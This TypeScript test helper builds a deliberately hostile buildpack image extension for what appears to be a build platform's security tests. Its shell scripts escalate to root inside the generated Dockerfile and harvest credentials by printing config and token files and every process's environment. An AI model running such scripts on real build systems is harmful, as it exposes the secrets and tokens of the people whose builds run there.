import type { Registry } from '../../cluster/registry/registry.ts';
import { file, pushChangedBuilder } from './changed-builder.ts';
import { HOSTILE_ID, HOSTILE_LABELS } from './hostile-buildpack.ts';

const EXTENSION = { id: 'test/hostile-extension', version: '1.0.0' } as const;

const FOLDER = `/cnb/extensions/test_hostile-extension/${EXTENSION.version}`;

/** Prints what root can read of logins and tokens: files with their usual names, and the environment of all processes. */
const SEARCH = `#!/bin/sh
find / \\( -path /proc -o -path /sys -o -path /cnb \\) -prune -o -type f \\( -name '*config.json' -o -name '*token*' \\) -print |
  while read -r file; do echo "found $file"; head -c 4096 "$file"; done
cat /proc/[0-9]*/environ 2> /dev/null | tr '\\0' '\\n'
exit 0
`;

/** Runs the attacks of the buildpack as root before the buildpack runs them as its own user. */
const GENERATE = `#!/bin/sh
cat > "$CNB_OUTPUT_DIR/build.Dockerfile" << 'END'
ARG base_image
FROM \${base_image}
ARG user_id
USER root
RUN cd /workspace && sh /cnb/buildpacks/test_hostile/1.0.0/bin/build; sh ${FOLDER}/search; exit 0
USER \${user_id}
END
`;

const ORDER = `[[order]]
[[order.group]]
id = "${HOSTILE_ID}"
version = "1.0.0"
[[order.group]]
id = "${HOSTILE_LABELS.id}"
version = "1.0.0"
[[order-extensions]]
[[order-extensions.group]]
id = "${EXTENSION.id}"
version = "${EXTENSION.version}"
`;

/** Adds an image extension to a builder image, whose Dockerfile runs the attacks of the builder's buildpack as root. */
export async function pushExtendingBuilder(registry: Registry, builder: string): Promise<string> {
  return pushChangedBuilder(registry, builder, {
    name: 'extending',
    entries: [
      file('/cnb/order.toml', ORDER),
      file(
        `${FOLDER}/extension.toml`,
        `api = "0.10"\n[extension]\nid = "${EXTENSION.id}"\nversion = "${EXTENSION.version}"\n`,
      ),
      file(`${FOLDER}/bin/detect`, '#!/bin/sh\nexit 0\n', 0o755),
      file(`${FOLDER}/bin/generate`, GENERATE, 0o755),
      file(`${FOLDER}/search`, SEARCH, 0o755),
    ],
    labels: { 'io.buildpacks.buildpack.order-extensions': JSON.stringify([{ group: [EXTENSION] }]) },
  });
}
